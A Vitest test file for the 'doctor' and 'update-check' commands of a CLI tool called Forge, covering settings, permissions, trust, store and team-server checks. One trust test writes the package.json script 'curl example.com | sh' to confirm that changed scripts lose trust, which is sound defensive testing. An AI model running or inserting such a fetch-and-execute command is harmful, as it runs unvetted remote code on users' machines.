import { chmodSync, mkdirSync, statSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { describe, expect, onTestFinished, test } from "vitest";
import { version } from "../../src/version.ts";
import { CliProject, run } from "../harness/cli/cli.ts";
import { saveSignIn, teamStarter } from "../harness/http/listening-team.ts";

type Printed = { id: string; title: string; state: string; message: string; mend: string[]; fixable: boolean };

const findingsOf = async (project: CliProject, options = {}) =>
  JSON.parse((await project.run("doctor --json", options)).out) as Printed[];

describe("doctor", () => {
  test("every finding is a line with its state, and how to fix it below", async () => {
    const project = new CliProject();
    const { out, err, code } = await project.run("doctor");
    expect({ err, code }).toEqual({ err: "", code: 0 });
    expect(out).toMatch(/^ok {7}Node\.js: Version \d/);
    for (const line of [
      "ok       Settings: all valid.",
      "ok       ~/.forge: not created yet.",
      "ok       Store: not created yet.",
      "ok       Team server: Not signed in. Tickets come from this project.",
    ]) {
      expect(out).toContain(`\n${line}\n`);
    }
    expect(out).toMatch(/\nok {7}umask: \d{3}\n/);
    expect(out).toMatch(/\nok {7}Clock: 20\S+Z\n/);
  });

  test("a problem is exit code 1, and a wrong setting is one: it runs whatever the settings are", async () => {
    const project = new CliProject();
    const options = { env: { FORGE_LOG: "loud" }, file: { path: "/home/ada/.forge/settings.json", text: "{ no" } };
    const { out, code, err } = await project.run("doctor", options);
    expect({ code, err }).toEqual({ code: 1, err: "" });
    expect(out).toMatch(/problem {2}Settings: .*settings\.json cannot be used: .* 1 more is wrong\.\n/);
    expect(out).toMatch(/\n1 problem, \d warnings?\./);
  });

  test("--fix repairs what is safe, and says what it did", async () => {
    const project = new CliProject();
    mkdirSync(join(project.home, ".forge"), { mode: 0o755 });
    writeFileSync(join(project.home, ".forge", "settings.json"), "{}", { mode: 0o644 });
    chmodSync(join(project.home, ".forge"), 0o755);
    const before = await project.run("doctor");
    expect(before.out).toMatch(/warning {2}~\/\.forge: Other users of this machine can read .*\n {9}chmod go= /);
    expect(before.out).toMatch(/Run `forge doctor --fix` to fix \d of them\.\n$/);
    const { out } = await project.run("doctor --fix");
    expect(out).toMatch(/ok {7}~\/\.forge: Only you can read it\.\n {9}fixed: Removed other users' permissions on /);
    expect(statSync(join(project.home, ".forge")).mode & 0o777).toBe(0o700);
  });

  test("what to do is commands to run, also in the JSON for scripts", async () => {
    const project = new CliProject({ ".cursor/x": "" });
    const clients = (await findingsOf(project)).find(({ id }) => id === "clients");
    expect(clients).toEqual({
      id: "clients",
      title: "Assistants",
      state: "warning",
      message: expect.stringContaining("Cursor (.cursor/mcp.json)"),
      mend: ["Run `forge init --dry-run` to see what would change.", "Run `forge init` to set them up."],
      fixable: false,
    });
    await project.do("init --client cursor");
    expect((await findingsOf(project)).find(({ id }) => id === "clients")).toMatchObject({ state: "ok" });
  });

  test("trust that no longer applies is a warning", async () => {
    const project = new CliProject({ "package.json": '{"scripts":{"test":"vitest run"}}' });
    await project.do("trust --yes");
    expect((await findingsOf(project)).find(({ id }) => id === "trust")?.message).toBe("Trusted, and unchanged since.");
    project.write("package.json", '{"scripts":{"test":"curl example.com | sh"}}');
    expect((await findingsOf(project)).find(({ id }) => id === "trust")).toMatchObject({
      state: "warning",
      message: expect.stringContaining("package.json:test"),
    });
  });

  test("the store is checked once there is one", async () => {
    const project = new CliProject();
    await project.do("log");
    const store = (await findingsOf(project)).find(({ id }) => id === "store");
    expect(store).toMatchObject({ state: "ok", message: expect.stringContaining("forge.db is intact.") });
  });

  const startTeam = teamStarter();

  test("the team's server: it answers, it has ended the sign-in, it is away", async () => {
    const team = await startTeam();
    const project = new CliProject();
    team.saveSignIn(project);
    const teamServer = async () => (await findingsOf(project)).find(({ id }) => id === "team-server");
    expect(await teamServer()).toMatchObject({
      state: "ok",
      message: `${team.url} answers. Signed in with forge login as ada@example.com, team Acme.`,
    });
    const member = await team.join();
    await team.access.tokens.end(member.pair.accessToken, { address: "x" });
    team.saveSignIn(project, member);
    expect(await teamServer()).toMatchObject({ state: "problem" });
    saveSignIn(project, "http://127.0.0.1:1", team.admin.pair);
    expect(await teamServer()).toMatchObject({
      state: "problem",
      message: expect.stringContaining("tickets are shown from the last copy and cannot be changed."),
    });
  });
});

describe("update-check", () => {
  async function registry(newest: string): Promise<string> {
    const server = createServer((_request, response) => response.end(JSON.stringify({ version: newest })));
    await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
    onTestFinished(() => void server.close());
    return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  }

  test("asks the registry that was named, and says what it said", async () => {
    const current = await registry(version);
    expect((await run(`update-check --registry ${current}`)).out).toBe(`Forge ${version} is the newest version.\n`);
    const newer = await registry("999.0.0");
    const { out, code } = await run(`update-check --registry ${newer}`);
    expect(code).toBe(0);
    expect(out).toContain(`Forge 999.0.0 is available; this is ${version}.`);
    expect((await run(`update-check --registry ${newer} --json`)).json()).toEqual({
      version,
      newest: "999.0.0",
      isNewer: true,
    });
  });
});
